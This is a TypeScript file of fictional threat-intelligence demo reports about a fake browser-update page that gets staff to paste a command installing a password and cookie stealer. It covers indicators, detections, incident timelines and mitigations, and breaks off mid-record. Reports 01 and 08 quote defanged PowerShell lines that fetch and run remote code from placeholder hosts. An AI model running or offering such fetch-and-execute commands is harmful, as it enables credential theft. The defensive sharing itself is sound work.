import type { DemoReport } from '../story.ts'

/** Blue Ferret: a false update page that asks people to paste a command. Months 4 to 8, closed. */
export const reports: readonly DemoReport[] = [
  {
    key: 'blue-ferret-01',
    by: 'copperbeech',
    kind: 'question',
    daysAgo: 181,
    at: '12:32',
    title: 'Page tells staff to press Windows+R and paste something. Is that ever real?',
    summary:
      'Two teachers got a "your browser needs one more step" page with a tick box, then instructions to press Windows and R and paste. One of them did. What does it do, and what should we do with her laptop?',
    technical: {
      notes:
        'She kept the page open, so here is what was on the clipboard. I have taken the middle out in case somebody pastes it again.\n\n    powershell -w h -c "iwr hxxps://newest-window[.]example/t … | iex"  # I am not a robot 4471',
      indicators: [
        ['domain', 'newest-window.example', 'phishing-page', 'block'],
        ['url', 'https://newest-window.example/t', 'payload-host', 'block'],
        ['ipv4', '192.0.2.195', 'payload-host', 'block'],
        ['domain', 'stoneyford-parishfete.example', 'hacked-innocent', 'context'],
      ],
    },
    tlp: { headline: 'GREEN', technical: 'GREEN' },
    grants: [{ layer: 'technical', to: ['everyone'], as: 'withheld' }],
    provenance: { kind: 'own-observation' },
    thread: [
      {
        by: 'wreakevale',
        after: 26,
        layer: 'technical',
        as: 'named',
        text: "Never real. It fetches a script that fetches a program that reads the browser's saved passwords and cookies. Take the laptop off the network, change every password she had saved from **another** machine, and sign her out everywhere. Do not only scan it.",
        accepted: true,
      },
      {
        by: 'copperbeech',
        after: 40,
        layer: 'headline',
        as: 'withheld',
        text: 'Thank you. She has 61 saved passwords. We are making tea.',
      },
      {
        by: 'bg-eastmid-16',
        after: 122,
        layer: 'headline',
        as: 'withheld',
        text: 'We had this two days ago and closed it as "user error". Reopening.',
      },
      {
        by: 'fenbridge',
        after: 300,
        layer: 'technical',
        as: 'named',
        text: 'One proxy hit on the same host, blocked by category "newly registered". Thank you.',
      },
    ],
    sightings: [
      { by: 'fenbridge', after: 300, count: 1, as: 'named' },
      { by: 'bg-eastmid-16', after: 125, count: 2, as: 'withheld' },
      { by: 'bg-other-03', after: 900, count: 1, as: 'withheld' },
      { by: 'harrowdale', after: 1410, count: 3, as: 'named' },
    ],
  },
  {
    key: 'blue-ferret-02',
    by: 'harrowdale',
    kind: 'incident',
    daysAgo: 178,
    at: '15:05',
    title: 'Bogus browser update pop-up, 3 calls to the service desk before lunch',
    summary:
      'Three officers reported a bogus update page reached from an ordinary village website. No one completed the steps. The website belongs to a parish and looks to have been tampered with.',
    technical: {
      notes:
        "Logged as three incidents, merged into one. The parish page loads a script that is not the parish's. Different address from the one posted three days ago, same page.",
      indicators: [
        ['domain', 'page-upkeep.example', 'phishing-page', 'block'],
        ['ipv4', '192.0.2.195', 'payload-host', 'block'],
        ['domain', 'stoneyford-parishfete.example', 'hacked-innocent', 'detect'],
        ['url', 'https://stoneyford-parishfete.example/assets/jq-extra.js', 'hacked-innocent', 'detect'],
      ],
    },
    tlp: { headline: 'GREEN', technical: 'GREEN' },
    grants: [{ layer: 'technical', to: ['everyone'], as: 'withheld' }],
    thread: [
      {
        by: 'lindfell',
        after: 60,
        layer: 'technical',
        as: 'named',
        text: "I have the parish's hosting firm on the phone. Please nobody block the parish for longer than today, their fete is on it.",
      },
      {
        by: 'lindfell',
        after: 1390,
        layer: 'technical',
        as: 'named',
        text: 'Cleaned this morning: old gallery plug-in. The clerk is 74 and was very nice about it.',
      },
      {
        by: 'harrowdale',
        after: 1425,
        layer: 'technical',
        as: 'withheld',
        text: 'Confirmed clean from here, both entries withdrawn.',
      },
    ],
    sightings: [
      { by: 'bg-other-07', after: 220, count: 1, as: 'withheld' },
      { by: 'bg-yorkshire-02', after: 410, count: 1, as: 'withheld' },
      { by: 'bg-eastmid-01', after: 1105, count: 2, as: 'withheld' },
    ],
    withdrawn: [
      { after: 1420, reason: 'cleaned-up', indicator: 'stoneyford-parishfete.example' },
      { after: 1421, reason: 'cleaned-up', indicator: 'https://stoneyford-parishfete.example/assets/jq-extra.js' },
    ],
  },
  {
    key: 'blue-ferret-03',
    by: 'fenbridge',
    kind: 'incident',
    daysAgo: 173,
    at: '18:20',
    title: 'User-executed command via fake verification prompt, ward workstation',
    summary:
      'A clinician pasted a command on a shared ward workstation. Credential store of one browser profile was read. Contained within 50 minutes; no clinical system was reached.',
    technical: {
      notes: `Process chain: explorer → powershell (hidden) → winrefresh_x64.exe → reads the login store → POST.

Detection that fired: PowerShell child of explorer with a clipboard-length command line. Detection that should have fired earlier: write to the RunMRU key.`,
      indicators: [
        ['domain', 'tab-refresh-now.example', 'phishing-page', 'block'],
        ['file-name', 'winrefresh_x64.exe', 'payload', 'detect'],
        ['sha256', '7ca5552871a0af871f59d6bf4977283d22e682aaff06dfdc2f3c780d04d10a0c', 'payload', 'block'],
        ['domain', 'inkpot-metrics.example', 'exfiltration', 'block'],
        ['ipv4', '198.51.100.201', 'exfiltration', 'block'],
        ['registry-key', 'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU', 'unknown', 'hunt'],
        ['attack-technique', 'T1204.004', 'technique', 'context'],
        ['attack-technique', 'T1555.003', 'technique', 'context'],
      ],
    },
    full: {
      story: `**Severity:** 2. **Status:** contained, recovering.

- 09:02 clinician searches for a dosing chart, follows the third result
- 09:04 page asks to "verify"; instructions followed
- 09:04:40 program runs as the shared ward account
- 09:05 14 KB leave to the exfiltration host
- 09:21 detection raised, low priority, unassigned
- 09:48 analyst picks it up; workstation isolated 09:54
- 10:30 passwords of everybody who had used that browser profile in 30 days reset: **38 people**, because the profile is shared

The 38 is the lesson. The program took one profile and the profile was a whole ward. We are turning off password saving on shared accounts, which should have been done years since.

Patient systems use cards, not passwords, so nothing taken opens them. Two staff had saved personal banking. They have been told, in person.`,
      impact: '38 resets, two hours of slow sign-in on one ward. No patient harm, no patient data.',
    },
    tlp: { headline: 'GREEN', technical: 'GREEN', full: 'AMBER+STRICT' },
    grants: [
      { layer: 'technical', to: ['everyone'], as: 'withheld' },
      { layer: 'full', to: ['desk', 'wreakevale', 'harrowdale'], as: 'named' },
    ],
    thread: [
      {
        by: 'wreakevale',
        after: 95,
        layer: 'full',
        as: 'named',
        text: 'May I have the file, for the lab only? I would like to see what else it reads apart from the login store.',
      },
      { by: 'fenbridge', after: 140, layer: 'full', as: 'named', text: 'Sent through the desk, sealed. Marcus' },
      {
        by: 'bg-other-11',
        after: 610,
        layer: 'technical',
        as: 'withheld',
        text: 'RunMRU hunt over 4,000 machines: two hits, one is ours from today, one is an engineer who pastes for a living.',
      },
      {
        by: 'bg-pharma-02',
        after: 980,
        layer: 'technical',
        as: 'withheld',
        text: 'Hash blocked here by our tool already as of this morning. Exfil host is new to us, thanks.',
      },
    ],
    sightings: [
      { by: 'wreakevale', after: 130, count: 1, as: 'named' },
      { by: 'bg-other-11', after: 610, count: 1, as: 'withheld' },
      { by: 'bg-eastmid-10', after: 1700, count: 1, as: 'withheld' },
      { by: 'bg-finance-09', after: 2050, count: 3, as: 'withheld' },
      { by: 'bg-yorkshire-11', after: 2980, count: 1, as: 'withheld' },
    ],
    withdrawn: [{ after: 165120, reason: 'sinkholed', indicator: 'inkpot-metrics.example' }],
  },
  {
    key: 'blue-ferret-04',
    by: 'wreakevale',
    kind: 'campaign',
    daysAgo: 170,
    at: '11:48',
    title: 'Inkpot: what the pasted command really installs (sandbox notes)',
    summary:
      'We ran the program behind the false verification page. It reads saved passwords and session cookies from four browsers, sends them once, and deletes itself. It does not stay, so a clean scan proves nothing.',
    technical: {
      notes: `From the sandbox, three runs:

    mutex       : Global\\inkpot_77
    reads       : login store, cookie store, local state of 4 browsers
    sends       : POST /m?v=3, multipart, key in header X-Ink
    persistence : none
    lifetime    : 41-58 s

The mutex is created before the check for a virtual machine, so it can be used as a vaccine. (Do not rely on that.)`,
      indicators: [
        ['mutex', 'Global\\inkpot_77', 'payload', 'detect'],
        ['sha256', '7ca5552871a0af871f59d6bf4977283d22e682aaff06dfdc2f3c780d04d10a0c', 'payload', 'block'],
        ['sha1', 'd41eca9305df96732eea21a9082e35c82959dd0b', 'payload', 'block'],
        ['md5', '335de400b86f735c087447454c44af06', 'payload', 'block'],
        ['sha256', '10795c2b4dda791196622fe44a2055cb24247b38fad4d121769bf83baf8ffb72', 'payload', 'block'],
        ['url', 'https://inkpot-metrics.example/m?v=3', 'exfiltration', 'block'],
        ['domain', 'inkpot-metrics.example', 'exfiltration', 'block'],
        ['ipv4', '198.51.100.201', 'exfiltration', 'block'],
        ['ja3', '2137ea977459563c2eabe6ec13b670cb', 'exfiltration', 'hunt'],
        ['attack-technique', 'T1555.003', 'technique', 'context'],
      ],
    },
    tlp: { headline: 'GREEN', technical: 'GREEN' },
    grants: [{ layer: 'technical', to: ['everyone'], as: 'named' }],
    provenance: { kind: 'passed-on', detail: 'Sample from a member, with its leave through the desk' },
    thread: [
      {
        by: 'halvergate',
        after: 41,
        layer: 'technical',
        as: 'named',
        text: '- Same mutex in one sample bought from a feed, 12 days older.\n- Does it take cookies for all sites, or a list?\n- If a list, may we have it?',
      },
      {
        by: 'wreakevale',
        after: 77,
        layer: 'technical',
        as: 'named',
        text: 'All of them; then it sorts, and banking comes first. There is a string table with 31 names, which I have sent to the Finance manager, i.e. you.',
      },
      {
        by: 'greywether',
        after: 160,
        layer: 'headline',
        as: 'named',
        text: 'Our clients are fully protected against Inkpot.',
      },
      {
        by: 'bg-eastmid-19',
        after: 191,
        layer: 'headline',
        as: 'withheld',
        text: 'We are a client and we reported one two days ago?',
      },
      { by: 'greywether', after: 204, layer: 'headline', as: 'named', text: 'Fair point, calling you. Gill' },
    ],
    sightings: [
      { by: 'halvergate', after: 40, count: 1, as: 'named' },
      { by: 'marlpit', after: 330, count: 2, as: 'named' },
      { by: 'bg-eastmid-19', after: 190, count: 1, as: 'withheld' },
      { by: 'bg-other-01', after: 1502, count: 4, as: 'withheld' },
      { by: 'bg-energy-02', after: 1610, count: 1, as: 'withheld' },
    ],
    withdrawn: [
      { after: 161192, reason: 'sinkholed', indicator: 'inkpot-metrics.example' },
      { after: 161193, reason: 'sinkholed', indicator: 'https://inkpot-metrics.example/m?v=3' },
    ],
  },
  {
    key: 'blue-ferret-05',
    by: 'bg-eastmid-19',
    kind: 'incident',
    daysAgo: 172,
    at: '09:55',
    title: 'receptionist did the windows R thing',
    summary:
      'Web page for a curry house asked her to prove she is human. She pasted it. Antivirus says clean so is that ok?',
    tlp: { headline: 'AMBER' },
    grants: [{ layer: 'headline', to: ['east-midlands'], as: 'withheld' }],
    thread: [
      {
        by: 'copperbeech',
        after: 18,
        layer: 'headline',
        as: 'withheld',
        text: 'Not OK, sorry. It deletes itself, so clean means nothing. Change everything that browser had saved, from a different computer, today.',
      },
      { by: 'bg-eastmid-19', after: 33, layer: 'headline', as: 'withheld', text: 'doing it now. bank first?' },
      {
        by: 'copperbeech',
        after: 36,
        layer: 'headline',
        as: 'withheld',
        text: 'Mail first, then bank: whoever has the mailbox can reset the rest.',
      },
    ],
  },
  {
    key: 'blue-ferret-06',
    by: 'bg-other-03',
    kind: 'incident',
    daysAgo: 165,
    at: '16:48',
    title: 'Fake update page has a new name every morning',
    summary:
      'We block the address, next day its another. Five in five days, all with the same green tick picture. There must be a better thing to block than the name.',
    technical: {
      notes:
        'Five mornings, five names, two servers. The tick picture never changes (MD5 below). We now alert on the picture in the proxy cache.',
      indicators: [
        ['domain', 'winterwindow.example', 'phishing-page', 'block'],
        ['domain', 'browser-tuneup.example', 'phishing-page', 'block'],
        ['domain', 'viewport-care.example', 'phishing-page', 'block'],
        ['domain', 'freshpane.example', 'phishing-page', 'block'],
        ['domain', 'pane-renewal.example', 'phishing-page', 'block'],
        ['ipv4', '192.0.2.195', 'payload-host', 'block'],
        ['ipv4', '192.0.2.203', 'payload-host', 'block'],
        ['md5', 'fa82dbfb6832abbd8912f8d9b5914df5', 'lure', 'detect'],
        ['file-name', 'tick_green_48.png', 'lure', 'hunt'],
      ],
    },
    tlp: { headline: 'GREEN', technical: 'GREEN' },
    grants: [{ layer: 'technical', to: ['everyone'], as: 'withheld' }],
    thread: [
      {
        by: 'lindfell',
        after: 50,
        layer: 'technical',
        as: 'named',
        text: 'They change at 05:00 UTC, by a timer. Names live 24 hours and are never used again, so please set a short expiry on these, a week is plenty.',
      },
      {
        by: 'bg-finance-09',
        after: 205,
        layer: 'technical',
        as: 'withheld',
        text: 'The picture works. 9 hits in a week, none of which the names would have given us.',
      },
    ],
    sightings: [
      { by: 'bg-finance-09', after: 204, count: 9, as: 'withheld' },
      { by: 'bg-yorkshire-05', after: 712, count: 1, as: 'withheld' },
      { by: 'bg-transport-07', after: 1010, count: 2, as: 'withheld' },
      { by: 'bg-eastmid-25', after: 1540, count: 1, as: 'withheld' },
    ],
  },
  {
    key: 'blue-ferret-07',
    by: 'harrowdale',
    kind: 'incident',
    daysAgo: 160,
    at: '10:10',
    title: 'Officer completed the steps; sign-in from abroad 19 minutes later',
    summary:
      'One officer followed the bogus update page. Nineteen minutes later the stolen session was used against our mail from a rented server. Session cookies go stale fast if you end them, so end them first.',
    technical: {
      notes:
        'The second factor did not help: the **cookie** was replayed, not the password. Ending all sessions in the tenant closed it in under a minute.',
      indicators: [
        ['domain', 'lookagain-update.example', 'phishing-page', 'block'],
        ['ipv4', '198.51.100.208', 'unknown', 'hunt'],
        ['user-agent', 'Mozilla/5.0 (Windows NT 10.0; rv:0) TidyReplay', 'tool', 'hunt'],
        ['attack-technique', 'T1539', 'technique', 'context'],
        ['attack-technique', 'T1204.004', 'technique', 'context'],
      ],
    },
    full: {
      story: `- 11:31 officer (revenues) follows steps
- 11:50 mail session from 198.51.100[.]208; reads 14 messages, all about direct debits; makes no rule
- 12:02 tenant alert, "impossible travel"
- 12:09 all sessions ended. Attempts go on till 12:40 and fail
- 14:00 list of the 14 messages agreed with the data protection officer; nine residents written to

We first reset the password, which did nothing, and only then ended the sessions. Seven minutes lost. The runbook now has it the right way round.

A screenshot is attached for the desk. It shows the officer's desktop, so please do not pass it on.`,
      impact: '14 messages read, nine residents informed. Regulator informed by our own DPO.',
    },
    tlp: { headline: 'GREEN', technical: 'GREEN', full: 'AMBER' },
    grants: [
      { layer: 'technical', to: ['everyone'], as: 'withheld' },
      { layer: 'full', to: ['desk', 'fenbridge', 'copperbeech', 'bg-other-03', 'bg-other-07'], as: 'named' },
    ],
    thread: [
      {
        by: 'copperbeech',
        after: 60,
        layer: 'full',
        as: 'named',
        text: '"End sessions first" is now the top line of ours too. Could the story go to the WARP as well?',
      },
      {
        by: 'harrowdale',
        after: 96,
        layer: 'full',
        as: 'named',
        text: 'I opened it to two more councils this morning, and have since seen that the screenshot shows a name in the corner. Narrowing again to the desk and the trust until I have cut it. Apologies. Jill',
      },
      {
        by: 'fenbridge',
        after: 130,
        layer: 'full',
        as: 'named',
        text: 'Deleted our copy of the picture. The text is what mattered.',
      },
    ],
    sightings: [
      { by: 'marlpit', after: 240, count: 1, as: 'named' },
      { by: 'bg-other-07', after: 1300, count: 2, as: 'withheld' },
    ],
    narrowed: {
      after: 98,
      grants: [
        { layer: 'technical', to: ['everyone'], as: 'withheld' },
        { layer: 'full', to: ['desk', 'fenbridge'], as: 'named' },
      ],
    },
  },
  {
    key: 'blue-ferret-08',
    by: 'bg-yorkshire-05',
    kind: 'incident',
    daysAgo: 154,
    at: '03:12',
    title: 'Inkpot on a till PC, night shift, sorry for the paste',
    summary:
      'Caught one on a back-office PC at a store. Raw lines below in the technical part, will tidy up in the morning if I am allowed to go home.',
    technical: {
      notes: `sorry, straight from the console:

    02:07:11Z pid 5512 powershell.exe  -w h -c iwr one-more-step[.]example/t|iex
    02:07:13Z pid 5530 winrefresh_x64.exe  C:\\Users\\till04\\AppData\\Local\\Temp
    02:07:14Z mutex Global\\inkpot_77
    02:07:31Z conn 198.51.100[.]201:443 14.8KB out
    02:08:02Z pid 5530 exit 0, file deleted

isolated 02:19. the till itself is seperate and fine`,
      indicators: [
        ['domain', 'one-more-step.example', 'phishing-page', 'block'],
        ['ipv4', '198.51.100.201', 'exfiltration', 'block'],
        ['mutex', 'Global\\inkpot_77', 'payload', 'detect'],
        ['file-path', 'C:\\Users\\till04\\AppData\\Local\\Temp\\winrefresh_x64.exe', 'payload', 'context'],
      ],
    },
    tlp: { headline: 'GREEN', technical: 'AMBER' },
    grants: [
      { layer: 'headline', to: ['everyone'], as: 'withheld' },
      { layer: 'technical', to: ['aireline', 'bg-yorkshire-09', 'desk', 'wreakevale'], as: 'withheld' },
    ],
    thread: [
      {
        by: 'wreakevale',
        after: 420,
        layer: 'technical',
        as: 'named',
        text: 'No apology needed, these are the cleanest five lines of the week. Same build as ours.',
      },
      {
        by: 'aireline',
        after: 450,
        layer: 'technical',
        as: 'named',
        text: 'We found one with your line three. Thank you, go to bed.',
      },
    ],
    sightings: [
      { by: 'aireline', after: 449, count: 1, as: 'named' },
      { by: 'bg-yorkshire-09', after: 1800, count: 1, as: 'withheld' },
    ],
  },
  {
    key: 'blue-ferret-09',
    by: 'copperbeech',
    kind: 'incident',
    daysAgo: 150,
    at: '13:15',
    title: 'Pupils are daring each other to paste it',
    summary:
      "At one school the tick-box page has become a game. Nine pupil machines in two days. Their saved passwords are mostly games, but some are a parent's shopping account.",
    technical: {
      notes: 'They pass the link on by hand. It is the name of the day, so of nine machines we saw three names.',
      indicators: [
        ['domain', 'human-tickbox.example', 'phishing-page', 'block'],
        ['domain', 'verify-pane.example', 'phishing-page', 'block'],
        ['domain', 'q8d1.hostbox.example', 'phishing-page', 'block'],
        ['ipv4', '192.0.2.203', 'payload-host', 'block'],
      ],
    },
    tlp: { headline: 'AMBER', technical: 'AMBER' },
    grants: [{ layer: 'technical', to: ['east-midlands', 'desk', 'harrowdale'], as: 'withheld' }],
    thread: [
      {
        by: 'bg-eastmid-08',
        after: 44,
        layer: 'headline',
        as: 'withheld',
        text: 'Turn off the Run box by policy for pupils? We did, nobody noticed.',
      },
      {
        by: 'copperbeech',
        after: 70,
        layer: 'headline',
        as: 'withheld',
        text: 'Done at lunch. Two found the address bar of the file window does the same thing. Of course they did.',
      },
      {
        by: 'emcu',
        after: 185,
        layer: 'headline',
        as: 'named',
        text: 'Happy to send an officer for a talk, no charges and no uniforms. Give me two dates.',
      },
    ],
    sightings: [
      { by: 'bg-eastmid-08', after: 45, count: 1, as: 'withheld' },
      { by: 'bg-eastmid-14', after: 333, count: 3, as: 'withheld' },
    ],
  },
  {
    key: 'blue-ferret-10',
    by: 'fenbridge',
    kind: 'experience',
    daysAgo: 146,
    at: '17:30',
    title: 'What worked: taking Windows+R away, measured',
    summary:
      'We disabled the Run dialog for everyone but engineers on 6,200 machines. In four weeks: 11 complaints, three exceptions, and attempts that completed fell from 7 to 0.',
    technical: {
      notes:
        'Policy "Remove Run menu from Start Menu" plus a block on PowerShell as a child of explorer for non-admins. The second is what stops the file window trick.',
      indicators: [
        ['attack-technique', 'T1204.004', 'technique', 'context'],
        ['attack-technique', 'T1059.001', 'technique', 'context'],
      ],
    },
    tlp: { headline: 'CLEAR', technical: 'GREEN' },
    grants: [{ layer: 'technical', to: ['everyone'], as: 'named' }],
    thread: [
      { by: 'bg-finance-23', after: 180, layer: 'headline', as: 'withheld', text: 'Who complained?' },
      {
        by: 'fenbridge',
        after: 196,
        layer: 'headline',
        as: 'named',
        text: 'Ten engineers and a radiologist. The radiologist had a point.',
      },
      {
        by: 'harrowdale',
        after: 1500,
        layer: 'technical',
        as: 'named',
        text: 'Copied to 1,100 machines. Two complaints, both mine.',
      },
    ],
  },
  {
    key: 'blue-ferret-11',
    by: 'bg-other-07',
    kind: 'incident',
    daysAgo: 141,
    at: '14:22',
    title: "Fake update came from our own football club's site",
    summary:
      'The lure page was loaded by the site of a local football club that half our staff visit at lunch. The club is a victim. Please do not put its name on any list.',
    technical: {
      notes:
        "Script added at the foot of every page. The club's web person has been told; he does it for nothing after work.",
      indicators: [
        ['domain', 'little-ouzel-fc.example', 'hacked-innocent', 'context'],
        ['domain', 'tidy-viewport.example', 'phishing-page', 'block'],
        ['ipv6', '2001:db8:c07::41', 'payload-host', 'block'],
      ],
    },
    tlp: { headline: 'AMBER', technical: 'AMBER' },
    grants: [{ layer: 'technical', to: ['desk', 'harrowdale', 'lindfell'], as: 'withheld' }],
    thread: [
      {
        by: 'lindfell',
        after: 240,
        layer: 'technical',
        as: 'named',
        text: "Host has restored it from Sunday's copy. Ask them to look again tomorrow, the password is what was stolen.",
      },
      {
        by: 'bg-other-07',
        after: 1480,
        layer: 'technical',
        as: 'withheld',
        text: 'Clean today. New password, I stood next to him.',
      },
    ],
    withdrawn: [{ after: 1485, reason: 'cleaned-up', indicator: 'little-ouzel-fc.example' }],
  },
  {
    key: 'blue-ferret-12',
    by: 'halvergate',
    kind: 'campaign',
    daysAgo: 137,
    at: '08:40',
    title: 'Inkpot logs for sale: 212 UK sets, our customers in 17',
    summary:
      'Stolen sets from the paste-a-command page are on offer within 26 hours of infection. 17 hold sessions for our bank. Expect account takeover two to four days after an infection.',
    technical: {
      notes: `- Market offers dated by infection; median 26 h to sale
- Price UK 8-12 USD, with banking 30
- Grade: source C, information 2 (we bought three, all genuine, with legal cover)
- Replays come from the two addresses below`,
      indicators: [
        ['ipv4', '198.51.100.208', 'unknown', 'hunt'],
        ['ipv4', '198.51.100.214', 'unknown', 'hunt'],
        ['user-agent', 'Mozilla/5.0 (Windows NT 10.0; rv:0) TidyReplay', 'tool', 'detect'],
        ['attack-technique', 'T1539', 'technique', 'context'],
      ],
    },
    tlp: { headline: 'AMBER', technical: 'AMBER' },
    grants: [{ layer: 'technical', to: ['finance', 'desk', 'wreakevale'], as: 'named' }],
    thread: [
      {
        by: 'bg-finance-20',
        after: 34,
        layer: 'technical',
        as: 'withheld',
        text: 'Eight replays from .214 since Sunday, four got in. Sessions ended. Thank you.',
      },
      {
        by: 'marlpit',
        after: 58,
        layer: 'headline',
        as: 'named',
        text: 'Can you check a list of customer references against the 212 for us?',
      },
      {
        by: 'halvergate',
        after: 71,
        layer: 'headline',
        as: 'named',
        text: '- Yes, hashed, through the desk.\n- Any lender may do the same, closes at 17:00.',
      },
      {
        by: 'quernlow',
        after: 512,
        layer: 'headline',
        as: 'named',
        text: 'Six of ours were in it. All six told within the hour. Isla',
      },
    ],
    sightings: [
      { by: 'bg-finance-20', after: 33, count: 8, as: 'withheld' },
      { by: 'quernlow', after: 511, count: 6, as: 'named' },
      { by: 'bg-finance-05', after: 760, count: 2, as: 'withheld' },
    ],
  },
  {
    key: 'blue-ferret-13',
    by: 'bg-eastmid-14',
    kind: 'incident',
    daysAgo: 131,
    at: '11:58',
    title: 'update_notes.iso from the "update" page instead of the paste',
    summary:
      'Variation: on a machine where Run is blocked, the page offers a file instead. It is called update_notes.iso. We did not open it.',
    technical: {
      notes:
        'Contains one shortcut and one hidden program. The university says same Inkpot inside. Beware, the file name is a very ordinary one and will turn up elsewhere.',
      indicators: [
        ['file-name', 'update_notes.iso', 'payload', 'hunt'],
        ['sha256', '8b811895dc0b3ef00cb8a26b582b4c75ae3c69bf36b39f912353a88ef0cbce40', 'payload', 'block'],
        ['domain', 'pane-by-pane.example', 'phishing-page', 'block'],
        ['ipv4', '203.0.113.140', 'shared-hosting', 'detect'],
      ],
    },
    tlp: { headline: 'AMBER', technical: 'AMBER' },
    grants: [{ layer: 'technical', to: ['east-midlands', 'desk'], as: 'withheld' }],
    thread: [
      {
        by: 'wreakevale',
        after: 150,
        layer: 'technical',
        as: 'named',
        text: 'Inkpot, third build: the mutex is now inkpot_81. The hosting address is shared by some hundreds of honest sites, I would take it out.',
      },
      { by: 'bg-eastmid-14', after: 171, layer: 'technical', as: 'withheld', text: 'Taken out, sorry.' },
    ],
    sightings: [{ by: 'bg-eastmid-22', after: 1380, count: 1, as: 'withheld' }],
    withdrawn: [{ after: 170, reason: 'false-positive', indicator: '203.0.113.140' }],
  },
  {
    key: 'blue-ferret-14',
    by: 'soardental',
    kind: 'incident',
    daysAgo: 126,
    at: '13:02',
    title: 'update page at 2 surgeries',
    summary: 'nurse at one place and the hygeinist at another. neither pasted. is the self check out yet',
    tlp: { headline: 'AMBER' },
    grants: [{ layer: 'headline', to: ['east-midlands', 'desk'], as: 'withheld' }],
    thread: [
      {
        by: 'ncac',
        after: 95,
        layer: 'headline',
        as: 'named',
        text: 'Being written now, and you may be its first reader. Six questions, no jargon, ten minutes. Ruth',
      },
      { by: 'soardental', after: 102, layer: 'headline', as: 'withheld', text: 'ok send' },
      {
        by: 'copperbeech',
        after: 230,
        layer: 'headline',
        as: 'named',
        text: 'Two people who did not paste. That is worth a biscuit each.',
      },
    ],
  },
  {
    key: 'blue-ferret-15',
    by: 'lindfell',
    kind: 'campaign',
    daysAgo: 119,
    at: '09:45',
    title: "The daily names come out of a formula. Here are next week's",
    summary:
      "The update page's daily name is two words from a fixed list chosen by the date. We can say tomorrow's today. Seven are below, and the registrar is refusing the rest.",
    technical: {
      notes:
        "Word lists were in the page's own script. Nothing resolves yet except the first. Set them to expire after the week.",
      indicators: [
        ['domain', 'amber-windowcare.example', 'phishing-page', 'block'],
        ['domain', 'birch-windowcare.example', 'phishing-page', 'block'],
        ['domain', 'coral-panecare.example', 'phishing-page', 'block'],
        ['domain', 'delta-panecare.example', 'phishing-page', 'block'],
        ['domain', 'ember-tabcare.example', 'phishing-page', 'block'],
        ['domain', 'fjord-tabcare.example', 'phishing-page', 'block'],
        ['domain', 'grove-tabcare.example', 'phishing-page', 'block'],
        ['domain', 'xn--fentre-neuve-qeb.example', 'phishing-page', 'block'],
      ],
    },
    tlp: { headline: 'GREEN', technical: 'GREEN' },
    grants: [{ layer: 'technical', to: ['everyone'], as: 'named' }],
    thread: [
      {
        by: 'wreakevale',
        after: 22,
        layer: 'technical',
        as: 'named',
        text: 'Confirmed by running the script with the clock put forward. The accented one is the fallback for days when the first is taken.',
      },
      {
        by: 'bg-transport-07',
        after: 70,
        layer: 'headline',
        as: 'withheld',
        text: 'For once we are ahead of something.',
      },
      {
        by: 'halvergate',
        after: 1490,
        layer: 'technical',
        as: 'named',
        text: '- "birch" went live 05:00Z as predicted. A1.\n- 6 clicks, 6 blocks.',
      },
    ],
    sightings: [
      { by: 'halvergate', after: 1488, count: 6, as: 'named' },
      { by: 'bg-other-09', after: 1500, count: 1, as: 'withheld' },
      { by: 'bg-energy-12', after: 1720, count: 2, as: 'withheld' },
      { by: 'dovecliff', after: 2903, count: 1, as: 'withheld' },
      { by: 'tarnwater', after: 4411, count: 1, as: 'withheld' },
    ],
    withdrawn: [
      { after: 5800, reason: 'sinkholed', indicator: 'ember-tabcare.example' },
      { after: 5801, reason: 'sinkholed', indicator: 'fjord-tabcare.example' },
      { after: 5802, reason: 'sinkholed', indicator: 'grove-tabcare.example' },
    ],
  },
  {
    key: 'blue-ferret-16',
    by: 'bg-eastmid-22',
    kind: 'question',
    daysAgo: 112,
    at: '10:31',
    title: 'How do we tell whether anyone pasted it before we knew?',
    summary: 'No SIEM, 60 PCs, one of me. Is there something I can look for on each machine that stays behind?',
    tlp: { headline: 'GREEN' },
    grants: [{ layer: 'headline', to: ['east-midlands', 'desk'], as: 'withheld' }],
    thread: [
      {
        by: 'wreakevale',
        after: 55,
        layer: 'headline',
        as: 'named',
        text: 'Yes: Windows remembers what was typed in the Run box. Registry, current user, Explorer, RunMRU. Anything long, or with "robot" in it, is yours. It stays for months.',
        accepted: true,
      },
      {
        by: 'bg-eastmid-22',
        after: 1400,
        layer: 'headline',
        as: 'withheld',
        text: '60 looked at, two had it. One from last term!! Both dealt with.',
      },
      {
        by: 'ncac',
        after: 1455,
        layer: 'headline',
        as: 'named',
        text: 'May we put that in the self-check, word for word?',
      },
      { by: 'bg-eastmid-22', after: 1460, layer: 'headline', as: 'withheld', text: 'please do' },
    ],
  },
  {
    key: 'blue-ferret-17',
    by: 'bg-finance-05',
    kind: 'incident',
    daysAgo: 106,
    at: '12:50',
    title: 'Stolen cookies used on a broker portal, second factor walked past',
    summary:
      'Four of our brokers had the update page at home. Their sessions were used on our portal from two rented servers. We now tie sessions to the device.',
    technical: {
      notes: 'Bound session tokens to the TLS client; replays since fail cleanly and loudly.',
      indicators: [
        ['ipv4', '198.51.100.214', 'unknown', 'hunt'],
        ['ipv4', '198.51.100.219', 'unknown', 'hunt'],
        ['user-agent', 'Mozilla/5.0 (Windows NT 10.0; rv:0) TidyReplay', 'tool', 'detect'],
      ],
    },
    full: {
      story: `Four brokers, all independent, all working from a family computer in the evening.

1. Infection between 19:40 and 22:15, by their own recollection.
2. First replay 31 to 44 hours later, which fits the resale delay that was reported in this node.
3. In each case: quote list opened, three client records opened, nothing exported.
4. Noticed because one broker's session was in two counties at once.

Changes since: tokens bound to the device, eight hour limit, and a plain-language letter to 420 brokers with a link to the self-check. 37 of them answered the letter to say that they had seen the page. That is nearly one in ten, in a group that nobody counts as ours.`,
      impact: 'Twelve client records viewed. Clients informed.',
    },
    tlp: { headline: 'AMBER', technical: 'AMBER', full: 'AMBER+STRICT' },
    grants: [
      { layer: 'technical', to: ['finance'], as: 'withheld' },
      { layer: 'full', to: ['desk', 'halvergate'], as: 'withheld' },
    ],
    thread: [
      {
        by: 'halvergate',
        after: 25,
        layer: 'full',
        as: 'named',
        text: '- One in ten is the first real denominator anyone has given. May I quote it, unattributed?\n- .219 is new. Thanks.',
      },
      { by: 'bg-finance-05', after: 47, layer: 'full', as: 'withheld', text: 'You may.' },
    ],
    sightings: [{ by: 'bg-finance-28', after: 1502, count: 3, as: 'withheld' }],
  },
  {
    key: 'blue-ferret-18',
    by: 'bg-pharma-02',
    kind: 'incident',
    daysAgo: 101,
    at: '09:18',
    title: 'Blocked at the proxy 14 times in a week, and who is clicking',
    summary:
